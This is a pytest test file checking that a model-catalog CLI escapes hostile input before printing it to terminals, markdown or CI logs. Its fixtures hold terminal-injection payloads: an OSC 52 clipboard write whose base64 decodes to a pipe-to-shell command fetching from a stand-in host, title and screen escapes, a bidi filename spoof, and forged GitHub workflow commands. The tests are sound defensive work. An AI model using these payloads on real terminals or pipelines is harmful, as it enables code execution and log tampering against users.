"""No untrusted text reaches a terminal, a markdown file or a CI log unescaped (issue 13, break 6).

A models.yml from someone else's repository (run through the pre-commit hook) and an upstream
listing fetched over the network may hold terminal escape sequences (OSC 52 clipboard writes,
window titles, screen clears), bidi overrides and newlines followed by GitHub workflow commands
(``::error::``, ``::add-mask::``) in provider names, model ids, keys and names. Every command and
format is run on them; no raw control character may come out, and no line may start a workflow
command except the ones ``--format github`` emits on purpose, whose data is escaped per the
runner's rules.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from catalogmgr.cli import cli

FIXTURES = Path(__file__).resolve().parent.parent / "upstream" / "fixtures"
CATALOG = FIXTURES / "catalog-small.json"
LISTING = FIXTURES / "openrouter-small.json"

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b31m"
BIDI = "\u202egnp.exe"
FORGED = "\n::error file=x::forged\n::add-mask::abc\n  ::warning::indented"
HOSTILE = f"{OSC52}{TITLE}{CLEAR}{C1_CSI}{BIDI}\r{FORGED}"

# Raw characters that must never be printed (escaped forms such as "\x1b" are fine).
_RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
_GITHUB_COMMAND = re.compile(r"^::(error|warning|notice|group|endgroup)( [^:]*)?::")


def _assert_safe(text: str, where: str, *, github: bool = False) -> None:
    raw = _RAW_CONTROL.search(text)
    assert raw is None, (
        f"raw {raw.group(0)!r} in {where}: {text[max(0, raw.start() - 60) : raw.end() + 60]!r}"
    )
    for line in text.split("\n"):
        # The per-field escapes keep a newline inside a name on its line ("\n"), so the last-resort
        # guard (which would turn "::x" into "\::x") never has to act: no line is forged at all.
        assert not line.strip().startswith("\\::"), f"a forged line (disarmed) in {where}: {line!r}"
        if not line.strip().startswith("::"):
            continue
        assert github, f"a workflow command line in {where}: {line!r}"
        assert _GITHUB_COMMAND.match(line), f"a forged workflow command in {where}: {line!r}"


def _yaml_string(text: str) -> str:
    return json.dumps(text)  # a JSON string is a YAML double-quoted scalar


@pytest.fixture
def hostile_overlay(tmp_path: Path, tmp_home: Path) -> Path:
    provider = _yaml_string(f"evil{HOSTILE}")
    model = _yaml_string(f"model{HOSTILE}")
    key = _yaml_string(f"KEY{HOSTILE}")
    name = _yaml_string(f"Name{HOSTILE}")
    overlay = tmp_path / "models.yml"
    overlay.write_text(
        f"""\
providers:
  {provider}:
    baseUrl: https://example.invalid/v1
    api: openai-completions
    apiKey: {key}
    headers:
      {key}: {key}
    models:
      - id: {model}
        name: {name}
  openrouter:
    modelOverrides:
      {model}:
        name: {name}
      anthropic/claude-x:
        name: {name}
        headers:
          {key}: {key}
""",
        encoding="utf-8",
    )
    return overlay


def _run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


SOURCES = ("--base", str(CATALOG))


@pytest.mark.parametrize(
    "args",
    [
        *(("validate", "{overlay}", "--format", fmt) for fmt in ("text", "json", "github")),
        ("validate", "{overlay}", "--strict"),
        ("validate", "{overlay}", "--base", str(CATALOG)),
        *(("list", *SOURCES, "--overlay", "{overlay}", "--format", fmt) for fmt in ("table", "json")),
        *(("changes", *SOURCES, "--overlay", "{overlay}", "--format", fmt) for fmt in ("text", "json")),
        *(
            (
                "show",
                *SOURCES,
                "--overlay",
                "{overlay}",
                "openrouter/anthropic/claude-x",
                "--explain",
                "--format",
                fmt,
            )
            for fmt in ("text", "json")
        ),
        ("show", *SOURCES, "--overlay", "{overlay}", "openrouter/nope\x1b]0;x\x07"),
        *(("keys", *SOURCES, "--overlay", "{overlay}", "--format", fmt) for fmt in ("table", "json")),
        ("keys", *SOURCES, "--overlay", "{overlay}", "--check"),
        ("merge", *SOURCES, "--overlay", "{overlay}", "--changes"),
        ("merge", *SOURCES, "--overlay", "{overlay}"),
    ],
    ids=lambda args: " ".join(a for a in args if "{" not in a and "/" not in a and "\x1b" not in a),
)
def test_a_hostile_overlay_reaches_no_output_raw(args: tuple[str, ...], hostile_overlay: Path) -> None:
    result = _run(*(arg.format(overlay=hostile_overlay) for arg in args))
    assert result.exit_code in {0, 1, 3}, result.output
    github = "github" in args
    _assert_safe(result.stdout, "stdout", github=github)
    _assert_safe(result.stderr, "stderr")


@pytest.fixture
def hostile_listing(tmp_path: Path, tmp_home: Path) -> Path:
    listing = json.loads(LISTING.read_text(encoding="utf-8"))
    for index, entry in enumerate(listing["data"]):
        entry["name"] = f"{entry['name']}{HOSTILE}"
        if index % 2:
            entry["id"] = f"{entry['id']}{HOSTILE}"
            entry["canonical_slug"] = f"{entry.get('canonical_slug', entry['id'])}{HOSTILE}"
    path = tmp_path / "listing.json"
    path.write_text(json.dumps(listing), encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt", ["text", "json", "markdown", "github"])
def test_a_hostile_listing_reaches_no_output_raw(fmt: str, hostile_listing: Path) -> None:
    result = _run(
        "diff-upstream",
        *SOURCES,
        "--no-default-overlay",
        "--upstream-file",
        str(hostile_listing),
        "--format",
        fmt,
    )
    assert result.exit_code in {0, 1}, result.output
    _assert_safe(result.stdout, "stdout", github=fmt == "github")
    _assert_safe(result.stderr, "stderr")


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_doctor_on_a_hostile_overlay_prints_nothing_raw(
    fmt: str, hostile_overlay: Path, tmp_home: Path
) -> None:
    agent = tmp_home / ".omp" / "agent"
    agent.mkdir(parents=True)
    (agent / "models.yml").write_text(hostile_overlay.read_text(encoding="utf-8"), encoding="utf-8")
    result = _run("doctor", "--base", str(CATALOG), "--format", fmt)
    assert result.exit_code in {0, 1}, result.output
    _assert_safe(result.stdout, "stdout")
    _assert_safe(result.stderr, "stderr")


@pytest.mark.parametrize("fmt", ["json", "yaml"])
def test_parse_prints_no_raw_control(fmt: str, hostile_overlay: Path) -> None:
    result = _run("parse", str(hostile_overlay), "--format", fmt)
    assert result.exit_code == 0, result.output
    if fmt == "json":
        _assert_safe(result.stdout, "stdout")
        assert json.loads(result.stdout)  # still the same data
